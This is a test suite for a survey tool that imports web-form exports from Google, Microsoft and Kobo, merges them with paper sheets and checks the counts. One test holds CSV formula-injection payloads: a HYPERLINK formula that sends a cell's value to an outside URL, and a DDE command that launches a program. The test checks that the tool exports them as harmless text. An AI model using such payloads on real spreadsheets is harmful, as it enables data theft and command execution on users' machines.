"""`phieu import`: web-form exports in the shapes Google Forms, Microsoft Forms and
KoboToolbox write, merged with the paper sheets, checked against counts made here."""

from __future__ import annotations

import csv
import re

import numpy as np
import pandas as pd
import pytest

from phieu.forms import load_layout
from phieu.omr.vocabulary import Code, Reason
from phieu.pipeline.campaign import open_campaign
from phieu.pipeline.export import export_frame
from phieu.pipeline.report.results import compute
from tests.conftest import REFERENCE, run_cli

LAYOUT = load_layout(REFERENCE)
CHOICE = [q for q in LAYOUT.questions if q.kind != "text"]
UNITS = ["18070", "18073", "18076"]


def _people(n: int, seed: int) -> list[dict]:
    """Respondents: a unit and a value for every question (several for cai_thien)."""
    rng = np.random.default_rng(seed)
    out = []
    for i in range(n):
        person = {"unit": UNITS[i % 3], "when": f"2026-10-{1 + i % 28:02d} 09:{i % 60:02d}"}
        for q in CHOICE:
            values = [o.value for o in LAYOUT.options_of(q)]
            if q.kind == "multi":
                person[q.id] = sorted(rng.choice(values, size=int(rng.integers(0, 3)),
                                                 replace=False).tolist(), key=values.index)
            else:
                person[q.id] = [str(rng.choice(values))]
        person["y_kien"] = "Cần thêm ghế, quạt" if i % 7 == 0 else ""
        out.append(person)
    return out


def _label(q, value: str) -> str:
    return next(o.label for o in LAYOUT.options_of(q) if o.value == value)


def google(people: list[dict]) -> pd.DataFrame:
    """Google Forms: a timestamp, numbered question titles, labels, ticked boxes joined
    with ", " (a label holds a comma itself), the unit by its name."""
    rows = []
    for p in people:
        row = {"Dấu thời gian": p["when"],
               "Phường, xã nơi Ông/Bà giao dịch": LAYOUT.unit(p["unit"]).name}
        for n, q in enumerate(CHOICE, 1):
            row[f"{n}. {q.text}"] = ", ".join(_label(q, v) for v in p[q.id])
        row["Ý kiến khác"] = p["y_kien"]
        rows.append(row)
    return pd.DataFrame(rows)


def microsoft(people: list[dict]) -> pd.DataFrame:
    """Microsoft Forms (.xlsx): ID and times first, `4 - Hài lòng` style answers, ticked
    boxes joined with ";", the unit by its code."""
    rows = []
    for i, p in enumerate(people, 1):
        row = {"ID": str(i), "Start time": p["when"], "Completion time": p["when"],
               "Email": "anonymous", "Đơn vị": p["unit"]}
        for q in CHOICE:
            row[q.text.upper()] = ";".join(f"{v} - {_label(q, v)}" for v in p[q.id]) + (
                ";" if q.kind == "multi" and p[q.id] else "")
        row["Ý kiến khác"] = p["y_kien"]
        rows.append(row)
    return pd.DataFrame(rows)


def kobo(people: list[dict]) -> pd.DataFrame:
    """KoboToolbox (XML values): question ids as headers, values, ticked boxes separated
    by spaces, a `_uuid`, the unit as a name without its kind."""
    rows = []
    for i, p in enumerate(people):
        row = {"start": p["when"], "ma_xa": LAYOUT.unit(p["unit"]).name.split(" ", 1)[1]}
        for q in CHOICE:
            row[q.id] = " ".join(p[q.id])
        row["y_kien"] = p["y_kien"]
        row["_uuid"] = f"uuid-{i:04d}"
        rows.append(row)
    return pd.DataFrame(rows)


def _expected(people: list[dict]) -> pd.Series:
    """Counted respondents per unit, worked out here."""
    return pd.Series([p["unit"] for p in people]).value_counts().sort_index()


@pytest.fixture()
def campaign(tmp_path, backend):
    c = tmp_path / "c"
    assert backend.new(c, REFERENCE).exit_code == 0
    return c


def test_three_shapes_merge_into_one_result(campaign, tmp_path):
    g, m, k = _people(30, 1), _people(21, 2), _people(12, 3)
    google(g).to_csv(tmp_path / "google.csv", index=False)
    microsoft(m).to_excel(tmp_path / "ms.xlsx", index=False)
    kobo(k).to_csv(tmp_path / "kobo.csv", index=False, sep=";")
    for name, channel in (("google.csv", "online"), ("ms.xlsx", "online"),
                          ("kobo.csv", "zalo")):
        result = run_cli("import", campaign, tmp_path / name, "--channel", channel)
        assert result.exit_code == 0, result.output
        assert "0 flagged" in result.output, result.output
    with open_campaign(campaign) as c:
        frame = export_frame(c)
        r = compute(c)
    assert len(frame) == 63 and set(frame["status"]) == {"ok"}
    # every answer as it was given, row by row (the export keeps the file's order)
    online = frame[frame["channel"] == "online"]
    for p, (_, row) in zip(g + m, online.iterrows(), strict=True):
        assert row["unit_code"] == p["unit"]
        for q in CHOICE:
            assert row[q.id] == "|".join(p[q.id]), (q.id, row[q.id], p[q.id])
        assert row["y_kien"] == p["y_kien"]
    ch = r.channels[r.channels["group"] == ""].set_index("channel")
    assert ch.loc["online", "sheets"] == 51 and ch.loc["zalo", "sheets"] == 12
    per_unit = r.units.set_index("unit_code")["sheets"]
    assert per_unit[UNITS].tolist() == _expected(g + m + k)[UNITS].tolist()
    report = run_cli("report", campaign)
    assert report.exit_code == 0, report.output
    from tests.pipeline.test_report import _pdf_text

    text = _pdf_text(campaign / "bao-cao" / "bao-cao.pdf")
    assert "trực tuyến: 51 phiếu; zalo: 12 phiếu" in text
    sheet = pd.read_excel(campaign / "bao-cao" / "bao-cao.xlsx", sheet_name="Theo kênh",
                          header=2)  # under its title
    whole = sheet[sheet["Đơn vị"] == "Toàn địa bàn"].set_index("Kênh thu thập")
    assert whole["Số phiếu được tính"].to_dict() == {"Trực tuyến": 51, "Zalo": 12}
    unit = sheet[sheet["Đơn vị"] == LAYOUT.unit("18073").name]
    assert unit["Số phiếu được tính"].sum() == _expected(g + m + k)["18073"]


def test_bad_rows_are_flagged_and_importing_again_adds_nothing(campaign, tmp_path):
    people = _people(10, 4)
    frame = google(people)
    frame.loc[2, "Phường, xã nơi Ông/Bà giao dịch"] = "Phường Nam Hà Mới"  # not a unit
    frame.loc[5, f"5. {LAYOUT.question('q01').text}"] = "Tuyệt vời"  # not an option
    frame.to_csv(tmp_path / "a.csv", index=False)
    check = run_cli("import", campaign, tmp_path / "a.csv", "--check")
    assert "unit: Phường, xã nơi Ông/Bà giao dịch" in check.output
    assert "2 row(s) would be flagged" in check.output
    assert "row 4: unknown unit 'Phường Nam Hà Mới'" in check.output
    assert "row 7: not an option q01 'Tuyệt vời'" in check.output
    with open_campaign(campaign) as c:
        assert len(export_frame(c)) == 0  # --check stores nothing
    result = run_cli("import", campaign, tmp_path / "a.csv")
    assert "10 new (online): 8 counted, 2 flagged" in result.output
    again = run_cli("import", campaign, tmp_path / "a.csv")
    assert "imported before" in again.output
    grown = pd.concat([frame, google(_people(5, 5))], ignore_index=True)
    grown.to_csv(tmp_path / "b.csv", index=False)  # the same form's export, a week later
    result = run_cli("import", campaign, tmp_path / "b.csv")
    assert "15 rows, 5 new" in result.output and "10 were already" in result.output
    with open_campaign(campaign) as c:
        out = export_frame(c)
        r = compute(c)
    assert len(out) == 15 and (out["status"] == "flagged").sum() == 2
    flagged = out[out["status"] == "flagged"].set_index("source_page")["flags"]
    assert flagged[4] == "unknown unit 'Phường Nam Hà Mới'"
    assert flagged[7] == "not an option q01 'Tuyệt vời'"
    assert r.units["sheets"].sum() == 13 and r.units["waiting"].sum() == 1
    # the row naming no unit waits too, and the report says so rather than drop it
    assert r.overall.unplaced == 1
    report = run_cli("report", campaign)
    assert "1 more waiting for review belong to no unit yet" in report.output, report.output
    from tests.pipeline.test_report import _pdf_text

    text = " ".join(_pdf_text(campaign / "bao-cao" / "bao-cao.pdf").split())
    assert "1 mục chưa xác định được đơn vị" in text  # and a row of its own in the table
    assert re.search(r"Chưa xác định đơn vị — — 1 0 1 0", text)


def test_a_mapping_file_names_the_columns(campaign, tmp_path):
    people = _people(6, 6)
    frame = kobo(people).rename(columns={"q01": "cau_1", "ma_xa": "noi_giao_dich"})
    frame.to_csv(tmp_path / "k.csv", index=False)
    guessed = run_cli("import", campaign, tmp_path / "k.csv", "--check")
    assert "q01: (no column)" in guessed.output
    (tmp_path / "map.yaml").write_text("unit: noi_giao_dich\nquestions:\n  q01: cau_1\n",
                                       encoding="utf-8")
    result = run_cli("import", campaign, tmp_path / "k.csv", "--mapping", tmp_path / "map.yaml",
                     "--channel", "post")
    assert result.exit_code == 0 and "6 new (post): 6 counted" in result.output
    with open_campaign(campaign) as c:
        out = export_frame(c)
    assert out["q01"].tolist() == [p["q01"][0] for p in people]
    bad = tmp_path / "bad.yaml"
    bad.write_text("questions:\n  q01: khong_co\n", encoding="utf-8")
    wrong = run_cli("import", campaign, tmp_path / "k.csv", "--mapping", bad)
    assert wrong.exit_code == 1 and "q01: no column 'khong_co'" in wrong.output
    paper = run_cli("import", campaign, tmp_path / "k.csv", "--channel", "paper")
    assert paper.exit_code == 2


def test_the_export_csv_round_trips(campaign, tmp_path):
    google(_people(4, 7)).to_csv(tmp_path / "g.csv", index=False, quoting=csv.QUOTE_ALL)
    assert run_cli("import", campaign, tmp_path / "g.csv").exit_code == 0
    assert run_cli("export", campaign, "--out", tmp_path / "e.csv").exit_code == 0
    back = pd.read_csv(tmp_path / "e.csv", dtype=str, keep_default_na=False)
    assert list(back.columns[:8]) == ["sheet_id", "unit_code", "serial", "status", "flags",
                                      "source", "source_page", "channel"]
    assert set(back["channel"]) == {"online"} and back["sheet_id"].is_unique


def test_paper_and_online_indices_per_channel_against_a_hand_count(tmp_path, backend):
    """Paper sheets read with certainty and a web form's rows in the same units: the count
    and the index of each channel, in all and per unit, as worked out by hand here."""
    from phieu.pipeline.scan.reading import PageOutcome
    from phieu.pipeline.scan.recorded import record_page
    from phieu.pipeline.store.pages import add_file
    from tests.conftest import read_manifest
    from tests.pipeline.test_report import _answers, _score

    c = tmp_path / "c"
    assert backend.new(c, REFERENCE).exit_code == 0
    assert run_cli("print", c, "--copies", "3", "--out", tmp_path / "p").exit_code == 0
    sheets = [r for r in read_manifest(tmp_path / "p" / "manifest.csv")
              if r["unit_code"] in ("18070", "18073")]
    rng = np.random.default_rng(21)
    paper = {}
    with open_campaign(c) as camp:
        file_id = add_file(camp.store, "e" * 64, "paper.pdf", len(sheets), None)
        for n, r in enumerate(sheets, 1):
            answers = _answers(rng)
            o = PageOutcome(0, n, "form", r["sheet_id"], r["unit_code"], int(r["serial"]), 1,
                            "qr", [], answers, {}, campaign_code=camp.code)
            record_page(camp.store, file_id, o, 1, camp.code)
            paper[r["sheet_id"]] = (r["unit_code"], answers)
    people = _people(17, 22)
    google(people).to_csv(tmp_path / "online.csv", index=False)
    assert "0 flagged" in run_cli("import", c, tmp_path / "online.csv").output
    online = [(p["unit"], {q.id: "|".join(p[q.id]) for q in CHOICE}) for p in people]

    def hand(rows, unit=None) -> tuple[int, float]:
        scores = [_score(a) for u, a in rows if unit in (None, u)]
        return len(scores), sum(scores) / len(scores)

    with open_campaign(c) as camp:
        r = compute(camp)
        ch = r.channels.set_index(["group", "channel"])
    # what came in: paper sheets returned, and web-form rows, apart, per unit
    units = r.units.set_index("unit_code")
    for unit in UNITS:
        assert units.loc[unit, "returned"] == sum(u == unit for u, _ in paper.values())
        assert units.loc[unit, "other"] == sum(p["unit"] == unit for p in people)
    assert run_cli("report", c).exit_code == 0
    from tests.pipeline.test_report import _pdf_text

    text = " ".join(_pdf_text(c / "bao-cao" / "bao-cao.pdf").split())
    assert (f"số phiếu thu về: {len(paper)}; câu trả lời trực tuyến và qua kênh khác: "
            f"{len(people)}; hợp lệ: {len(paper) + len(people)}") in text
    book = pd.read_excel(c / "bao-cao" / "bao-cao.xlsx", sheet_name="Theo kênh", header=2)
    book = book.set_index(["Đơn vị", "Kênh thu thập"])
    for channel, rows, words in (("paper", list(paper.values()), "Phiếu giấy"),
                                 ("online", online, "Trực tuyến")):
        for unit in (None, "18070", "18073", "18076"):
            if not any(unit in (None, u) for u, _ in rows):
                assert (unit, channel) not in ch.index
                continue
            n, index = hand(rows, unit)
            got = ch.loc[(unit or "", channel)]
            assert got["sheets"] == n and got["index"] == pytest.approx(index), (unit, channel)
            name = LAYOUT.unit(unit).name if unit else "Toàn địa bàn"
            assert book.loc[(name, words), "Số phiếu được tính"] == n
            assert book.loc[(name, words), "Chỉ số hài lòng"] == pytest.approx(index, abs=5e-4)


def test_a_csv_not_in_utf8_is_named_with_what_to_do(campaign, tmp_path):
    path = tmp_path / "excel.csv"
    google(_people(3, 8)).to_csv(path, index=False, encoding="cp1258", errors="replace")
    result = run_cli("import", campaign, path)
    assert result.exit_code == 1 and "not UTF-8 text" in result.output
    assert "CSV UTF-8" in result.output and "Traceback" not in result.output


def test_a_row_changed_on_the_form_since_the_last_export_waits_for_a_person(campaign,
                                                                           tmp_path):
    """A later export where one person's row changed (the form lets people edit their
    answer): the old row is not counted beside the new one without a person deciding."""
    people = _people(10, 12)
    google(people).to_csv(tmp_path / "week1.csv", index=False)
    assert "10 counted" in run_cli("import", campaign, tmp_path / "week1.csv").output
    later = google(people + _people(2, 13))
    q01 = f"5. {LAYOUT.question('q01').text}"
    later.loc[4, q01] = "Rất không hài lòng" if later.loc[4, q01] != "Rất không hài lòng" \
        else "Hài lòng"  # person 5 changed an answer: a new row, the old one gone
    later.loc[4, "Dấu thời gian"] = "2026-11-02 10:00"
    later.to_csv(tmp_path / "week2.csv", index=False)
    result = run_cli("import", campaign, tmp_path / "week2.csv")
    assert "12 rows, 3 new (online): 3 counted" in result.output, result.output
    assert "1 row(s) imported before from this form are not in this export" in result.output
    with open_campaign(campaign) as c:
        out = export_frame(c)
        r = compute(c)
    old = out[(out["source"].str.endswith("week1.csv")) & (out["source_page"] == 6)].iloc[0]
    assert old["status"] == "flagged"
    assert old["flags"] == f"not in the later export {tmp_path / 'week2.csv'}"
    assert r.units["sheets"].sum() == 12 and r.units["waiting"].sum() == 1
    # an export of the newer rows alone repeats none of the stored ones: nothing is gone
    google(_people(3, 14)).to_csv(tmp_path / "week3-only.csv", index=False)
    result = run_cli("import", campaign, tmp_path / "week3-only.csv")
    assert "3 new" in result.output and "not in this export" not in result.output


def _when_dd_mm(frame: pd.DataFrame) -> pd.DataFrame:
    """Google's timestamps as a Vietnamese download writes them: 01/10/2026 09:05:00."""
    out = frame.copy()
    out["Dấu thời gian"] = pd.to_datetime(frame["Dấu thời gian"]).dt.strftime("%d/%m/%Y %H:%M:%S")
    return out


def test_the_same_answers_from_csv_xlsx_and_a_renamed_header_count_once(campaign, tmp_path):
    """One form's answers downloaded as CSV, then as .xlsx (the timestamp a date cell),
    then again with a header renamed and the columns in another order: one set of people.
    Two people who answered exactly alike stay two."""
    people = _people(12, 21)
    people[7] = {**people[3], "when": people[3]["when"]}  # the same minute, the same answers
    frame = google(people)
    _when_dd_mm(frame).to_csv(tmp_path / "form.csv", index=False)
    dated = frame.assign(**{"Dấu thời gian": pd.to_datetime(frame["Dấu thời gian"])})
    dated.to_excel(tmp_path / "form.xlsx", index=False)
    renamed = frame.rename(columns={"Ý kiến khác": "Ý kiến khác (nếu có)"})
    renamed = renamed[list(reversed(renamed.columns))]
    renamed.to_csv(tmp_path / "renamed.csv", index=False)
    first = run_cli("import", campaign, tmp_path / "form.csv")
    assert "12 new (online): 12 counted" in first.output, first.output
    for name in ("form.xlsx", "renamed.csv"):
        again = run_cli("import", campaign, tmp_path / name)
        assert again.exit_code == 0, again.output
        assert "0 new" in again.output and "12 were already in the campaign" in again.output
    with open_campaign(campaign) as c:
        frame_out = export_frame(c)
    assert len(frame_out) == 12 and set(frame_out["source"]) == {str(tmp_path / "form.csv")}
    grown = google(people + _people(2, 22))  # next week, as .xlsx: the two new rows only
    grown.assign(**{"Dấu thời gian": pd.to_datetime(grown["Dấu thời gian"])}).to_excel(
        tmp_path / "week2.xlsx", index=False)
    result = run_cli("import", campaign, tmp_path / "week2.xlsx")
    assert "2 new (online): 2 counted" in result.output, result.output
    assert "not in this export" not in result.output


def test_a_file_with_no_answers_adds_nobody(campaign, tmp_path):
    """The plan's cases.csv or the print manifest imported by mistake has a unit column
    and no question: refused, nothing counted. Rows of a real export that answer nothing
    are no respondents: left out, and said so."""
    (tmp_path / "cases.csv").write_text("unit_code,cases\n18070,120\n18073,4000\n",
                                        encoding="utf-8")
    (tmp_path / "manifest.csv").write_text(
        "pdf_page,sheet_id,unit_code,serial,form_page\n1,18070-000001,18070,000001,1\n",
        encoding="utf-8")
    for name in ("cases.csv", "manifest.csv"):
        result = run_cli("import", campaign, tmp_path / name)
        assert result.exit_code == 1 and "no column is a question of the layout" in \
            result.output, result.output
        check = run_cli("import", campaign, tmp_path / name, "--check")
        assert check.exit_code == 1
    frame = google(_people(6, 23))
    for n in (1, 4):  # opened the form, chose a unit, sent nothing else
        frame.loc[n, [c for c in frame.columns if c[0].isdigit() or c == "Ý kiến khác"]] = ""
    frame.to_csv(tmp_path / "some.csv", index=False)
    result = run_cli("import", campaign, tmp_path / "some.csv")
    assert "4 new (online): 4 counted" in result.output, result.output
    assert "2 row(s) answer no question of the layout" in result.output
    with open_campaign(campaign) as c:
        assert len(export_frame(c)) == 4
        assert compute(c).units["sheets"].sum() == 4


def test_a_question_repeated_in_two_columns_is_one_answer(campaign, tmp_path):
    """Google Forms repeats a question asked in two sections under the same header: pandas
    would rename the second and drop its answers. One answer in either: taken; two
    different ones: the row waits for a person."""
    people = _people(6, 24)
    frame = google(people)
    q01 = f"5. {LAYOUT.question('q01').text}"
    second = frame[q01].copy()
    second[[0, 1, 2]] = ""  # rows 1-3 answered in the first section
    frame.loc[[3, 4], q01] = ""  # rows 4-5 in the second
    frame.loc[5, q01] = "Rất không hài lòng" if people[5]["q01"] != ["1"] else "Hài lòng"
    path = tmp_path / "sections.csv"
    frame.to_csv(path, index=False)
    header, *lines = path.read_text(encoding="utf-8").splitlines()
    with path.open("w", encoding="utf-8", newline="") as f:  # the same header twice
        w = csv.writer(f)
        w.writerow(next(csv.reader([header])) + [q01])
        for line, extra in zip(lines, second, strict=True):
            w.writerow(next(csv.reader([line])) + [extra])
    result = run_cli("import", campaign, path)
    assert "6 new (online): 5 counted, 1 flagged" in result.output, result.output
    with open_campaign(campaign) as c:
        out = export_frame(c)
    assert out["q01"].tolist()[:5] == [p["q01"][0] for p in people[:5]]
    assert out.loc[5, "status"] == "flagged" and out.loc[5, "flags"].startswith(
        "not an option q01")


@pytest.mark.parametrize("name, content, words", [
    ("empty.csv", b"", "the file is empty"),
    ("header-only.csv", "Dấu thời gian,Email\n".encode(), "no column is a question"),
    ("not-excel.xlsx", b"this is no workbook", "not an Excel workbook"),
])
def test_a_file_that_cannot_be_imported_is_named(campaign, tmp_path, name, content, words):
    (tmp_path / name).write_bytes(content)
    result = run_cli("import", campaign, tmp_path / name)
    assert result.exit_code == 1 and words in result.output, result.output
    assert "Traceback" not in result.output


def test_rows_imported_by_an_earlier_release_are_not_counted_again(campaign, tmp_path):
    """Rows an earlier release stored under the key of their cells: the same answers
    imported again as .xlsx after the upgrade add nobody."""
    import hashlib
    import json

    frame = google(_people(8, 25))
    frame.to_csv(tmp_path / "form.csv", index=False)
    assert "8 counted" in run_cli("import", campaign, tmp_path / "form.csv").output
    # as version 8 left them: known by their cells
    with open_campaign(campaign) as c, c.store.transaction() as db:
        for rid, cells in db.execute("SELECT response_id, cells FROM responses").fetchall():
            text = "\x1f".join(f"{k}\x1e{v}" for k, v in json.loads(cells).items())
            old = f"online-{hashlib.sha256(text.encode()).hexdigest()[:16]}"
            db.execute("UPDATE responses SET response_id = ?, row_key = NULL "
                       "WHERE response_id = ?", (old, rid))
    frame.assign(**{"Dấu thời gian": pd.to_datetime(frame["Dấu thời gian"])}).to_excel(
        tmp_path / "form.xlsx", index=False)
    result = run_cli("import", campaign, tmp_path / "form.xlsx")
    assert "0 new" in result.output and "8 were already" in result.output, result.output
    with open_campaign(campaign) as c:
        assert len(export_frame(c)) == 8


FORMULAS = ['=HYPERLINK("http://example.com/?q="&A2,"bấm vào đây")', "=1+1", "+84 912 345 678",
            "-phòng chờ chật", "@SUM(1,2)", "=cmd|' /C calc'!A0", "https://example.com/x"]


def test_the_export_is_data_not_programs(tmp_path):
    """Comments typed on a web form as formulas, a link or a sign: the export keeps them as
    the text they are, in .xlsx (text cells) and in .csv (a leading '), and LibreOffice,
    opening either, finds no formula and no link."""
    import subprocess

    import openpyxl

    c = tmp_path / "c"
    assert run_cli("new", c, "--layout", REFERENCE).exit_code == 0
    people = _people(len(FORMULAS), 41)
    for person, text in zip(people, FORMULAS, strict=True):
        person["y_kien"] = text
    google(people).to_csv(tmp_path / "online.csv", index=False)
    assert "7 counted" in run_cli("import", c, tmp_path / "online.csv").output
    for name in ("export.xlsx", "export.csv"):
        assert run_cli("export", c, "--out", tmp_path / name).exit_code == 0
    sheet = openpyxl.load_workbook(tmp_path / "export.xlsx")["phieu"]
    header = [cell.value for cell in sheet[1]]
    column = header.index("y_kien")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == FORMULAS  # the text as typed ...
    assert {cell.data_type for cell in cells} == {"s"}  # ... as text: no formula
    assert not any(cell.hyperlink for cell in cells)  # no link
    back = pd.read_csv(tmp_path / "export.csv", dtype=str, keep_default_na=False)
    assert back["y_kien"].tolist() == [t if t.startswith("http") else f"'{t}" for t in FORMULAS]
    out = tmp_path / "lo"
    for name, infilter in (("export.xlsx", []),  # LibreOffice's CSV import evaluating formulas
                           ("export.csv", ["--infilter=CSV:44,34,76,1,,0,false,true,false,"
                                           "false,false,-1,true"])):
        subprocess.run(["soffice", "--headless", *infilter, "--convert-to", "ods", "--outdir",
                        str(out / name), str(tmp_path / name)], check=True,
                       capture_output=True, timeout=180,
                       env={"HOME": str(out), "PATH": "/usr/bin:/bin"})
        ods = next((out / name).iterdir()).read_bytes()
        content = _ods_content(ods)
        assert "table:formula" not in content, name  # no cell is a formula
        assert "xlink:href" not in content, name  # no cell is a link
        assert "bấm vào đây" in content


def _ods_content(ods: bytes) -> str:
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(ods)) as z:
        return z.read("content.xml").decode("utf-8")


def _read_rows(cells: list[dict[str, str]]):
    """Rows as a KoboToolbox export gives them (question ids as headers, the unit by its
    code), each read as the campaign takes it."""
    from phieu.pipeline.answer_file import guess_mapping
    from phieu.pipeline.importing import RowReader

    base = {"ma_xa": "18070", **{q.id: "" for q in CHOICE}}
    frame = pd.DataFrame([{**base, **c} for c in cells], dtype=object)
    return list(RowReader(guess_mapping(frame, LAYOUT), LAYOUT).rows(frame, "online"))


def test_a_cell_naming_two_options_of_a_one_answer_question_is_for_a_person():
    """"2, 4" on a one-answer question, or options run together ("12") on a several-answer
    one: never read as an answer, each flagged with the cell as written."""
    read = _read_rows([{"q03": "2, 4"}, {"cai_thien": "12"}, {"q03": "4", "cai_thien": "1 2"}])
    assert read[0].reasons == [Reason(Code.NOT_AN_OPTION, "q03", "2, 4")]
    assert read[0].answers["q03"] == ""
    assert read[1].reasons == [Reason(Code.NOT_AN_OPTION, "cai_thien", "12")]
    assert read[1].answers["cai_thien"] == ""
    assert read[2].reasons == [] and (read[2].answers["q03"], read[2].answers["cai_thien"]) \
        == ("4", "1|2")


def test_people_who_answered_alike_are_numbered_in_file_order():
    """Two rows alike in one export are two respondents: the first is known by the row's
    own key, the next ones by that key and their number (-2, -3), so a longer export of the
    same form, which repeats them in order, adds neither again."""
    from phieu.pipeline.importing import keyed

    read = _read_rows([{"q01": "4"}, {"q01": "5"}, {"q01": "4"}, {"q01": "4"}])
    assert read[0].key == read[2].key == read[3].key != read[1].key
    assert [k for _, k in keyed(read)] == [read[0].key, read[1].key, f"{read[0].key}-2",
                                            f"{read[0].key}-3"]


def test_a_unit_written_by_its_name_or_by_its_code_is_the_same_respondent():
    """One export names the ward, another (of the same form) gives its code: the same
    person's row is known by the same key in both, so neither counts them twice."""
    by_name = _read_rows([{"ma_xa": LAYOUT.unit("18070").name, "q01": "4"}])
    by_code = _read_rows([{"ma_xa": "18070", "q01": "4"}])
    assert by_name[0].unit == by_code[0].unit == "18070"
    assert by_name[0].key == by_code[0].key
    unknown = _read_rows([{"ma_xa": "Phường Không Có", "q01": "4"}])
    assert unknown[0].unit is None and unknown[0].key != by_code[0].key
